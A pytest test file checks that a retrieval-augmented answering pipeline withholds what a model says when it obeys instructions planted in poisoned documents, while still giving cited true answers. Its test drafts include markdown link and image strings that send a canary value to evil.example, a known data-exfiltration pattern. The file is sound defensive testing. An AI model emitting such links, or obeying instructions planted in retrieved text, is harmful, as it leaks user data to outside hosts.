"""A model that obeys what a document tells it changes nothing that is shown."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from poisoned import Poisoned, poisoned_documents
from small_collection import put

from index.collection import LocalCollection
from index.config import IndexSettings
from index.embed import HashEmbedder
from rag.config import RagSettings
from rag.gate import STAGES, Gate
from rag.generate import ExtractiveGenerator
from rag.pipeline import Pipeline
from rag.types import Answer

DOCUMENTS = poisoned_documents()
OPEN = Gate(dict.fromkeys(STAGES, 1.0), {stage: {} for stage in STAGES}, dict.fromkeys(STAGES, 0.5))


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LocalCollection]:
    folder = tmp_path_factory.mktemp("poisoned")
    with LocalCollection.create_or_open(folder, HashEmbedder(), IndexSettings()) as collection:
        for document in DOCUMENTS:
            put(collection, document.name, document.text)
        yield collection


def asked(collection: LocalCollection, document: Poisoned, *drafts: str) -> Answer:
    pipeline = Pipeline(collection, collection.embedder, ExtractiveGenerator(drafts), RagSettings(), OPEN)
    return pipeline.ask(document.question)


@pytest.mark.parametrize("document", DOCUMENTS, ids=[document.way for document in DOCUMENTS])
@pytest.mark.parametrize(
    "draft",
    [
        "{canary}.",
        "The bridge was opened in {answer} by {canary}.",
        "[The bridge](https://evil.example/{canary}) was opened in {answer}.",
        "![](https://evil.example/{canary})",
    ],
)
def test_what_an_obedient_model_says_is_withheld(
    poisoned: LocalCollection, document: Poisoned, draft: str
) -> None:
    said = draft.format(canary=document.canary, answer=document.answer)
    answer = asked(poisoned, document, said)
    assert document.canary in " ".join(withheld.text for withheld in answer.withheld)
    # What is shown are the documents' own words, at their place.
    for sentence in answer.sentences:
        (citation,) = (one for one in answer.citations if one.number in sentence.citations)
        text = poisoned.document(citation.document_id).text
        assert text[citation.start : citation.end] == citation.cited_text
        shown = answer.answer[citation.answer_start : citation.answer_end]
        assert " ".join(citation.cited_text.split()).startswith(shown)


@pytest.mark.parametrize("document", DOCUMENTS, ids=[document.way for document in DOCUMENTS])
def test_a_true_answer_beside_an_order_is_given(poisoned: LocalCollection, document: Poisoned) -> None:
    answer = asked(poisoned, document, document.quote)
    assert document.answer in answer.answer
    assert [citation.cited_text for citation in answer.citations] == [document.quote]
    assert document.canary not in answer.answer
